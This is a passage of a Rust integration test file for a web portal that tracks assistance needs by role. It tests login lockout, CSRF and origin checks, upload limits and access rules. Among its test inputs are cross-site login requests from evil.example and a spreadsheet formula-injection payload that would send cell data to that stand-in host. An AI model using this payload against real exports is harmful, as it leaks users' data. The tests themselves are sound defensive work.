            "POST",
            "/password",
            Some(&vn_token),
            &format!(
                "csrf={vn_csrf}&current={}&new={}",
                current.replace(' ', "+"),
                new.replace(' ', "+")
            ),
        )
        .0
    };
    assert_eq!(send(addr, "GET", "/password", None, "").0, 401);
    assert_eq!(change("not the password", new_password), 403);
    assert_eq!(change(PASSWORD, "short"), 400);
    assert_eq!(change(PASSWORD, new_password), 200);
    assert_eq!(
        send(addr, "GET", "/api/v1/assistance", Some(&other_vn), "").0,
        401
    );
    assert_eq!(
        send(addr, "GET", "/api/v1/assistance", Some(&vn_token), "").0,
        200
    );
    let (status, _, _) = send(
        addr,
        "POST",
        "/login",
        None,
        &format!("name=vn&password={}", new_password.replace(' ', "+")),
    );
    assert_eq!(status, 303, "the new password lets one in");

    // Logging out ends the session.
    let (status, _, _) = send(
        addr,
        "POST",
        "/logout",
        Some(&sec.0),
        &format!("csrf={}", sec.1),
    );
    assert_eq!(status, 303);
    assert_eq!(send(addr, "GET", "/api/v1/log", Some(&sec.0), "").0, 401);

    // Five wrong passwords, and the account is refused for a while.
    for _ in 0..5 {
        assert_eq!(
            send(
                addr,
                "POST",
                "/login",
                None,
                "name=ke&password=wrong+password+here"
            )
            .0,
            401
        );
    }
    let (status, _, _) = send(
        addr,
        "POST",
        "/login",
        None,
        &format!("name=ke&password={}", PASSWORD.replace(' ', "+")),
    );
    assert_eq!(status, 429);
    // A login form sent from another site is refused.
    let mut stream = TcpStream::connect(addr).unwrap();
    let form = format!("name=sec&password={}", PASSWORD.replace(' ', "+"));
    write!(stream, "POST /login HTTP/1.1\r\nHost: {addr}\r\nOrigin: http://evil.example\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{form}", form.len()).unwrap();
    let mut raw = String::new();
    stream.read_to_string(&mut raw).unwrap();
    assert!(raw.starts_with("HTTP/1.1 403"), "{raw}");
}

pub(crate) fn examples() -> Dir {
    Dir::with_examples()
}

/// The examples and [`EXTRA_NEEDS`].
fn matrix_examples() -> Dir {
    let d = Dir::with_examples();
    let header = "state,cycle,article,type,source,paragraph,text,addressed_by\n";
    let extra = d.write("needs.csv", &format!("{header}{EXTRA_NEEDS}"));
    d.ok(&["import", s(&extra)]);
    d
}

#[test]
fn every_role_on_sqlite() {
    let d = matrix_examples();
    matrix(&Location::Sqlite(d.db()));
}

#[test]
fn every_role_on_postgresql() {
    let Some(pg) = PgDatabase::new() else { return };
    let d = matrix_examples();
    d.ok(&["copy", "--to", &pg.url]);
    matrix(&Location::Postgres(pg.url.clone()));
}

#[test]
fn accounts_are_added_from_the_command_line() {
    let d = examples();
    let add = |args: &[&str], password: &str| {
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_tana"))
            .arg("--db")
            .arg(d.db())
            .args(["user", "add"])
            .args(args)
            .stdin(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // A refusal may come before the password is read.
        let _ = writeln!(child.stdin.take().unwrap(), "{password}");
        let out = child.wait_with_output().unwrap();
        (
            out.status.code().unwrap(),
            String::from_utf8_lossy(&out.stderr).to_string(),
        )
    };
    assert_eq!(
        add(
            &["ana", "--role", "focal-point", "--state", "Viet Nam"],
            PASSWORD
        )
        .0,
        0
    );
    for (args, password, says) in [
        (
            vec!["ana", "--role", "secretariat"],
            PASSWORD,
            "exists already",
        ),
        (
            vec!["bo", "--role", "focal-point"],
            PASSWORD,
            "give --state",
        ),
        (
            vec!["bo", "--role", "focal-point", "--state", "Atlantis"],
            PASSWORD,
            "`Atlantis` is no State party",
        ),
        (
            vec!["bo", "--role", "provider", "--state", "KEN"],
            PASSWORD,
            "only a focal point",
        ),
        (
            vec!["bo", "--role", "provider"],
            "short",
            "at least 10 characters",
        ),
    ] {
        let (code, err) = add(&args, password);
        assert_eq!(code, 2, "{args:?}");
        assert!(err.contains(says), "{args:?}: {err}");
    }
    let token = d.ok(&["user", "token", "ana"]);
    assert!(token.trim().len() == 64 && token.trim().bytes().all(|b| b.is_ascii_hexdigit()));
    let o = d.tana(&["user", "token", "nobody"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("no account `nobody`"));
    let mut st = store::open(&Location::Sqlite(d.db())).unwrap();
    assert!(
        st.token_account(&store::digest(token.trim()))
            .unwrap()
            .is_some()
    );
    assert!(
        st.token_account(token.trim()).unwrap().is_none(),
        "the store keeps digests only"
    );
    let ana = st.account("ana").unwrap().unwrap();
    assert_eq!(ana.account.state.as_deref(), Some("VNM"));
    assert!(ana.password_hash.starts_with("$argon2") && !ana.password_hash.contains("password"));
    drop(st);
    assert_eq!(d.ok(&["user", "list"]), "ana\tfocal_point\tVNM\n");
    // The secretariat sets a forgotten password from the command line.
    let set = |name: &str, password: &str| {
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_tana"))
            .arg("--db")
            .arg(d.db())
            .args(["user", "password", name])
            .stdin(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // A refusal may come before the password is read.
        let _ = writeln!(child.stdin.take().unwrap(), "{password}");
        let out = child.wait_with_output().unwrap();
        (
            out.status.code().unwrap(),
            String::from_utf8_lossy(&out.stderr).to_string(),
        )
    };
    assert_eq!(set("ana", "a brand new password").0, 0);
    let stored = store::open(&Location::Sqlite(d.db()))
        .unwrap()
        .account("ana")
        .unwrap()
        .unwrap();
    assert!(tana::accounts::password_matches(
        "a brand new password",
        &stored.password_hash
    ));
    assert_eq!(set("ana", "short").0, 2);
    assert!(
        set("nobody", "a brand new password")
            .1
            .contains("no account `nobody`")
    );
    // Removed, the account and its token are gone, and the log says so.
    d.ok(&["user", "remove", "ana"]);
    assert_eq!(d.ok(&["user", "list"]), "");
    let mut st = store::open(&Location::Sqlite(d.db())).unwrap();
    assert!(
        st.token_account(&store::digest(token.trim()))
            .unwrap()
            .is_none()
    );
    assert!(
        st.log()
            .unwrap()
            .iter()
            .any(|e| e.action == "remove account" && e.before.contains("ana"))
    );
    let o = d.tana(&["user", "remove", "ana"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("no account `ana`"));
}

/// A multipart upload of one file, with the form's secret.
fn upload(
    addr: SocketAddr,
    token: Option<&str>,
    csrf: &str,
    name: &str,
    content: &[u8],
) -> (u16, String) {
    let boundary = "tana-test-boundary";
    let mut body = Vec::new();
    write!(
        body,
        "--{boundary}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{csrf}\r\n"
    )
    .unwrap();
    write!(body, "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: text/csv\r\n\r\n").unwrap();
    body.extend_from_slice(content);
    write!(body, "\r\n--{boundary}--\r\n").unwrap();
    let mut stream = TcpStream::connect(addr).unwrap();
    let mut head = format!(
        "POST /import HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nContent-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {}\r\n",
        body.len()
    );
    if let Some(t) = token {
        head.push_str(&format!("Cookie: tana_session={t}\r\n"));
    }
    stream.write_all(head.as_bytes()).unwrap();
    stream.write_all(b"\r\n").unwrap();
    let _ = stream.write_all(&body);
    let mut raw = Vec::new();
    let _ = stream.read_to_end(&mut raw);
    let text = String::from_utf8_lossy(&raw).to_string();
    (text[9..12].parse().unwrap(), text)
}

#[test]
fn the_secretariat_uploads_a_file_and_sees_its_bad_rows() {
    let d = examples();
    let location = Location::Sqlite(d.db());
    add_accounts(
        &location,
        &[
            ("sec", Role::Secretariat, None),
            ("vn", Role::FocalPoint, Some("VNM")),
        ],
    );
    let addr = spawn(
        App::open(&location, false).unwrap(),
        "127.0.0.1:0".parse().unwrap(),
    )
    .unwrap();
    let (sec, sec_csrf) = login(addr, "sec");
    let (vn, vn_csrf) = login(addr, "vn");
    let bad = b"state,cycle,article,type\nAtlantis,1,16,legislative_drafting\nKenya,1,99,model_legislation\n";
    // The command line's messages, for the same file.
    let file = d.write("needs.csv", std::str::from_utf8(bad).unwrap());
    let cli = d.tana(&["import", file.to_str().unwrap()]);
    let cli_errors: Vec<String> = String::from_utf8_lossy(&cli.stderr)
        .lines()
        .filter(|l| l.starts_with("  "))
        .map(|l| l.trim().replace(&d.path("").display().to_string(), ""))
        .collect();
    assert_eq!(cli_errors.len(), 2);
    let before = send(addr, "GET", "/api/v1/analysis", None, "").2;
    // What the workspace holds, read from the database itself: the
    // server's answers come from its snapshot, which a failed upload
    // does not renew.
    let stored = || d.ok(&["export", "--format", "json", "--out", s(&d.path("held"))]);
    let held = || std::fs::read_to_string(d.path("held/records.json")).unwrap();
    stored();
    let held_before = held();
    let (status, page) = upload(addr, Some(&sec), &sec_csrf, "needs.csv", bad);
    assert_eq!(status, 422, "{page}");
    for e in &cli_errors {
        assert!(page.contains(e.as_str()), "missing `{e}` in {page}");
    }
    // Nothing was written.
    stored();
    assert_eq!(held(), held_before);
    // A good file is imported and counted at once.
    let good = b"state,cycle,article,type\nKenya,1,46,model_legislation\n";
    let (status, page) = upload(addr, Some(&sec), &sec_csrf, "needs.csv", good);
    assert_eq!(status, 200, "{page}");
    assert!(page.contains("1 need,"), "{page}");
    assert!(!page.contains("1 needs"), "{page}");
    assert_ne!(send(addr, "GET", "/api/v1/analysis", None, "").2, before);
    // Others may not; a wrong secret, a wrong format, a file too large are refused.
    assert_eq!(upload(addr, None, "", "needs.csv", good).0, 401);
    assert_eq!(upload(addr, Some(&vn), &vn_csrf, "needs.csv", good).0, 403);
    assert_eq!(upload(addr, Some(&sec), "forged", "needs.csv", good).0, 403);
    assert_eq!(
        upload(addr, Some(&sec), &sec_csrf, "needs.exe", good).0,
        415
    );
    let huge = vec![b'a'; 9 * 1024 * 1024];
    let (status, text) = upload(addr, Some(&sec), &sec_csrf, "needs.csv", &huge);
    assert_eq!(status, 413, "{}", &text[text.len().saturating_sub(400)..]);
    // The server is still there.
    assert_eq!(send(addr, "GET", "/healthz", None, "").0, 200);
}

#[test]
fn in_a_browser_each_role_sees_and_does_its_part() {
    let script = project("tests/browser/portal.mjs");
    let Some(chromium) = crate::browser() else {
        return;
    };
    let d = examples();
    let location = Location::Sqlite(d.db());
    add_accounts(
        &location,
        &[
            ("sec", Role::Secretariat, None),
            ("vn", Role::FocalPoint, Some("VNM")),
            ("ke", Role::FocalPoint, Some("KEN")),
            ("donor", Role::Provider, None),
        ],
    );
    let addr = spawn(
        App::open(&location, false).unwrap(),
        "127.0.0.1:0".parse().unwrap(),
    )
    .unwrap();
    let shots = project("target");
    let o = std::process::Command::new("node")
        .arg(&script)
        .arg(format!("http://{addr}"))
        .arg(PASSWORD)
        .arg(&shots)
        .env("CHROMIUM", &chromium)
        .output()
        .expect("node runs");
    let said = String::from_utf8_lossy(&o.stdout).to_string() + &String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{said}");
    assert_eq!(said.matches("ok: ").count(), 22, "{said}");
}

/// Polls `path` until `done` holds of its body; false after ~10 s.
fn becomes(addr: SocketAddr, path: &str, done: impl Fn(&str) -> bool) -> bool {
    for _ in 0..100 {
        let (status, _, body) = send(addr, "GET", path, None, "");
        if status == 200 && done(&body) {
            return true;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    false
}

/// A change made by another process, here `tana import` of a reviews file
/// that withdraws Viet Nam's publication, reaches the server's pages.
fn changes_from_elsewhere(d: &Dir, db: &str, location: &Location) {
    let addr = spawn(
        App::open(location, false).unwrap(),
        "127.0.0.1:0".parse().unwrap(),
    )
    .unwrap();
    let words = "Training of witness protection staff";
    let (_, _, page) = send(addr, "GET", "/states/VNM", None, "");
    assert!(page.contains(words), "published at first");
    let reviews = d.write(
        "reviews.csv",
        "state,cycle,completed,documents,published\nViet Nam,1,2013-06-14,self_assessment;country_report;executive_summary,\n",
    );
    d.ok_on(db, &["import", s(&reviews)]);
    assert!(
        becomes(addr, "/states/VNM", |b| !b.contains(words)),
        "the State's page still shows what Viet Nam withdrew"
    );
    assert!(
        becomes(addr, "/api/v1/states/VNM/needs", |b| !b.contains(words)),
        "the needs API still shows what Viet Nam withdrew"
    );
    // New records from the command line count too.
    let needs = d.write(
        "needs.csv",
        "state,cycle,article,type,source\nKenya,1,46,model_legislation,country_report\n",
    );
    let before = send(addr, "GET", "/api/v1/analysis", None, "").2;
    d.ok_on(db, &["import", s(&needs)]);
    assert!(
        becomes(addr, "/api/v1/analysis", |b| b != before),
        "the analysis does not count what was imported"
    );
}

#[test]
fn a_change_from_another_process_reaches_the_pages_on_sqlite() {
    let d = examples();
    let db = d.db();
    changes_from_elsewhere(&d, s(&db), &Location::Sqlite(db.clone()));
}

#[test]
fn a_change_from_another_process_reaches_the_pages_on_postgresql() {
    let Some(pg) = PgDatabase::new() else { return };
    let d = examples();
    d.ok(&["copy", "--to", &pg.url]);
    changes_from_elsewhere(&d, &pg.url, &Location::Postgres(pg.url.clone()));
}

#[test]
fn concurrent_wrong_logins_get_no_more_checks_than_the_limit() {
    let d = examples();
    let location = Location::Sqlite(d.db());
    add_accounts(&location, &[("ke", Role::FocalPoint, Some("KEN"))]);
    let addr = spawn(
        App::open(&location, false).unwrap(),
        "127.0.0.1:0".parse().unwrap(),
    )
    .unwrap();
    let statuses: Vec<u16> = std::thread::scope(|scope| {
        let guesses: Vec<_> = (0..40)
            .map(|i| {
                scope.spawn(move || {
                    send(
                        addr,
                        "POST",
                        "/login",
                        None,
                        &format!("name=ke&password=guess+{i}+long+enough"),
                    )
                    .0
                })
            })
            .collect();
        guesses.into_iter().map(|g| g.join().unwrap()).collect()
    });
    // A 401 is a password checked; a 429 one refused before the check.
    assert_eq!(
        statuses.iter().filter(|&&s| s == 401).count(),
        5,
        "{statuses:?}"
    );
    assert_eq!(statuses.iter().filter(|&&s| s == 429).count(), 35);
    // An unknown name is checked as long and refused alike.
    let (status, _, body) = send(
        addr,
        "POST",
        "/login",
        None,
        "name=nobody&password=guess+long+enough",
    );
    assert_eq!(status, 401);
    assert!(body.contains("The account name or the password is wrong."));
}

#[test]
fn a_form_from_another_scheme_is_refused() {
    let d = examples();
    let location = Location::Sqlite(d.db());
    add_accounts(&location, &[("sec", Role::Secretariat, None)]);
    let addr = spawn(
        App::open(&location, false).unwrap(),
        "127.0.0.1:0".parse().unwrap(),
    )
    .unwrap();
    let form = format!("name=sec&password={}", PASSWORD.replace(' ', "+"));
    let login_from = |origin: &str| {
        let mut stream = TcpStream::connect(addr).unwrap();
        write!(stream, "POST /login HTTP/1.1\r\nHost: {addr}\r\nOrigin: {origin}\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{form}", form.len()).unwrap();
        let mut raw = String::new();
        stream.read_to_string(&mut raw).unwrap();
        raw[9..12].parse::<u16>().unwrap()
    };
    assert_eq!(login_from(&format!("https://{addr}")), 403, "https on http");
    assert_eq!(login_from(&format!("http://{addr}.evil.example")), 403);
    assert_eq!(login_from(&format!("http://{addr}")), 303);
}

#[test]
fn a_write_that_meets_another_writer_answers_503() {
    let d = examples();
    let location = Location::Sqlite(d.db());
    add_accounts(&location, &[("sec", Role::Secretariat, None)]);
    let addr = spawn(
        App::open(&location, false).unwrap(),
        "127.0.0.1:0".parse().unwrap(),
    )
    .unwrap();
    let (token, csrf) = login(addr, "sec");
    // Another process holds the write lock, as a long import does.
    let holder = rusqlite::Connection::open(d.db()).unwrap();
    holder.execute_batch("BEGIN IMMEDIATE").unwrap();
    let form = format!("csrf={csrf}&cycle=1&article=16&type=model_legislation&addressed=on");
    let (status, head, body) = send(addr, "POST", "/states/VNM/addressed", Some(&token), &form);
    assert_eq!(status, 503, "{body}");
    assert!(head.to_ascii_lowercase().contains("retry-after:"), "{head}");
    assert!(!body.to_ascii_lowercase().contains("database"), "{body}");
    // Readers do not wait for the writer.
    assert_eq!(send(addr, "GET", "/states/VNM", Some(&token), "").0, 200);
    holder.execute_batch("ROLLBACK").unwrap();
    assert_eq!(
        send(addr, "POST", "/states/VNM/addressed", Some(&token), &form).0,
        303
    );
}

#[test]
fn a_formula_in_a_title_reaches_the_csv_as_text() {
    let d = examples();
    let location = Location::Sqlite(d.db());
    add_accounts(&location, &[("donor", Role::Provider, None)]);
    let addr = spawn(
        App::open(&location, false).unwrap(),
        "127.0.0.1:0".parse().unwrap(),
    )
    .unwrap();
    let (session, csrf) = login(addr, "donor");
    let title = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let encoded: String = title
        .bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(b).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect();
    // Viet Nam publishes its executive summary, which names this need.
    let form = format!("csrf={csrf}&need=1:32:capacity_building&title={encoded}&status=planned");
    let (status, _, body) = send(
        addr,
        "POST",
        "/states/VNM/assistance",
        Some(&session),
        &form,
    );
    assert_eq!(status, 303, "{body}");
    let (status, _, csv) = send(addr, "GET", "/assistance.csv", Some(&session), "");
    assert_eq!(status, 200);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let titles: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[5].to_string())
        .collect();
    // The title reaches a spreadsheet as text: one quote before the formula.
    assert_eq!(titles, [format!("'{title}")]);
}

fn page_of_sec(addr: SocketAddr, sessions: &[(&str, Option<(String, String)>)]) -> String {
    let sec = sessions[1].1.as_ref().unwrap();
    send(addr, "GET", "/states/VNM", Some(&sec.0), "").2
}

/// IATI activities and their links, by role. An activity imported for the
/// donor is read by the secretariat, the donor and the State's focal
/// points; its links are accepted by the donor and the secretariat, and
/// only to a need both the acceptor and the donor may read: a need Viet Nam
/// keeps from providers is linked to none of their activities.
fn follow_rows(addr: SocketAddr, sessions: &[(&str, Option<(String, String)>)]) {
    // IATI imports: the secretariat's and providers' scripts, with tokens.
    let xml = std::fs::read_to_string(project("tests/data/follow/viet-nam.xml")).unwrap();
    let import = |auth: &str, body: &str| {
        let mut stream = TcpStream::connect(addr).unwrap();
        write!(
            stream,
            "POST /api/v1/iati HTTP/1.1\r\nHost: {addr}\r\n{auth}Content-Type: application/xml\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
        .unwrap();
        let mut raw = String::new();
        stream.read_to_string(&mut raw).unwrap();
        let (head, body) = raw.split_once("\r\n\r\n").unwrap();
        (head[9..12].parse::<u16>().unwrap(), body.to_string())
    };
    let bearer = |token: &str| format!("Authorization: Bearer {token}\r\n");
    assert_eq!(import("", &xml).0, 401);
    assert_eq!(import(&bearer("script-token-of-viet-nam"), &xml).0, 403);
    let broken = xml.replace("code=\"VN\"", "code=\"QQ\"");
    let (status, refusal) = import(&bearer("script-token-of-the-secretariat"), &broken);
    assert_eq!(status, 400);
    assert!(refusal.contains("recipient-country/@code"), "{refusal}");
    assert!(
        !page_of_sec(addr, sessions).contains("XX-TEST-VN-1"),
        "nothing kept"
    );
    let (status, kept) = import(&bearer("script-token-of-a-donor"), &xml);
    assert_eq!(status, 200, "{kept}");
    let kept: serde_json::Value = serde_json::from_str(&kept).unwrap();
    assert_eq!(kept["summary"]["added"], 1);
    assert_eq!(kept["kept_out_no_governance_sector"][0], "XX-TEST-KE-ROADS");
    // The secretariat's import of the same file leaves it the donor's.
    let (status, again) = import(&bearer("script-token-of-the-secretariat"), &xml);
    assert_eq!(status, 200);
    assert!(again.contains("\"unchanged\":1"), "{again}");
    // Viet Nam's need of legislative drafting (article 16) is named only in
    // its unpublished country report; Viet Nam does not share it now.
    let link = "XX-TEST-VN-1:VNM:1:16:legislative_drafting";
    let form = format!("link={link}");
    let page_of = |who: &str| {
        let session = &sessions.iter().find(|(w, _)| *w == who).unwrap().1;
        send(
            addr,
            "GET",
            "/states/VNM",
            session.as_ref().map(|s| s.0.as_str()),
            "",
        )
        .2
    };
    for (who, session) in sessions {
        let token = session.as_ref().map(|s| s.0.as_str());
        let reads = matches!(*who, "sec" | "vn" | "donor");
        assert_eq!(
            page_of(who).contains("XX-TEST-VN-1"),
            reads,
            "{who} reads the activity"
        );
        assert!(
            !page_of(who).contains(link),
            "{who}: no form for a need kept from the donor"
        );
        let (status, _, all) = send(addr, "GET", "/assistance", token, "");
        assert_eq!(status, if token.is_some() { 200 } else { 401 }, "{who}");
        assert_eq!(all.contains("XX-TEST-VN-1"), reads, "{who} on /assistance");
    }
    let refused = |who: &str| match who {
        "public" => 401,
        // Kept from the donor, so not proposed: for the donor as for the
        // secretariat, the answer of a link that does not exist.
        "sec" | "donor" => 409,
        "vn" => 403,
        _ => 404,
    };
    post_as_each(addr, sessions.iter(), "/links", &form, refused);
    // Shared, the need opens to the donor: its link is proposed to the
    // donor and the secretariat, and accepted once.
    let vn = &sessions[2].1.as_ref().unwrap();
    let share = |on: &str| {
        let form = format!("csrf={}&cycle=1{on}", vn.1);
        assert_eq!(
            send(addr, "POST", "/states/VNM/sharing", Some(&vn.0), &form).0,
            303
        );
    };
    share("&shared=on");
    for (who, _) in sessions {
        let offers = matches!(*who, "sec" | "donor");
        assert_eq!(
            page_of(who).contains(link),
            offers,
            "{who} is offered the link"
        );
    }
    let accepted = |who: &str| match who {
        "public" => 401,
        "sec" | "donor" => 303,
        "vn" => 403,
        _ => 404,
    };
    post_as_each(addr, sessions.iter(), "/links", &form, accepted);
    let sec = sessions[1].1.as_ref().unwrap();
    let forged = send(
        addr,
        "POST",
        "/links",
        Some(&sec.0),
        &format!("csrf=0000&{form}"),
    );
    assert_eq!(forged.0, 403);
    let malformed = format!("csrf={}&link=nonsense", sec.1);
    assert_eq!(
        send(addr, "POST", "/links", Some(&sec.0), &malformed).0,
        400
    );
    share("");
    let needs = needs_of(addr, Some(&sec.0));
    assert!(needs.iter().any(|n| n["article"] == 16
        && n["type"] == "legislative_drafting"
        && n["addressed"] == true));
    let (_, _, records) = send(addr, "GET", "/api/v1/assistance", Some(&sec.0), "");
    let records: Vec<serde_json::Value> = serde_json::from_str(&records).unwrap();
    let linked: Vec<&serde_json::Value> = records
        .iter()
        .filter(|r| r["iati_identifier"] == "XX-TEST-VN-1")
        .collect();
    assert_eq!(linked.len(), 1, "accepted by two, recorded once");
    assert_eq!(linked[0]["provider"], "donor");
    let (_, _, log) = send(addr, "GET", "/api/v1/log", Some(&sec.0), "");
    assert!(log.contains("accept IATI link") && log.contains("import IATI activities"));
}

/// The gap matrix as every role: the cells of Viet Nam hold the needs the
/// role may know of (its needs API), and the provider of the link the
/// donor accepted (on a need Viet Nam no longer shares) is named only to
/// those who may read that assistance and know of the need.
fn gap_rows(addr: SocketAddr, sessions: &[(&str, Option<(String, String)>)]) {
    for (who, session) in sessions {
        let token = session.as_ref().map(|s| s.0.as_str());
        let known: Vec<serde_json::Value> = needs_of(addr, token)
            .into_iter()
            .filter(|n| n["cycle"] == 1)
            .collect();
        let (status, _, body) = send(addr, "GET", "/gaps.json?cycle=1", token, "");
        assert_eq!(status, 200, "{who}");
        let rows: Vec<serde_json::Value> = serde_json::from_str(&body).unwrap();
        let vnm: Vec<&serde_json::Value> = rows.iter().filter(|r| r["row"] == "VNM").collect();
        let sum = |field: &str| -> u64 { vnm.iter().map(|r| r[field].as_u64().unwrap()).sum() };
        assert_eq!(
            (sum("open") + sum("addressed")) as usize,
            known.len(),
            "{who}"
        );
        assert_eq!(
            sum("open") as usize,
            known.iter().filter(|n| n["addressed"] == false).count(),
            "{who}"
        );
        let named = vnm.iter().any(|r| {
            r["column"] == "16"
                && r["provider_names"]
                    .as_str()
                    .is_some_and(|n| n.contains("donor"))
        });
        assert_eq!(named, matches!(*who, "sec" | "vn"), "{who}");
        for path in ["/gaps?by=group-type", "/gaps.csv", "/gaps.xlsx"] {
            assert_eq!(send(addr, "GET", path, token, "").0, 200, "{who} {path}");
        }
    }
}
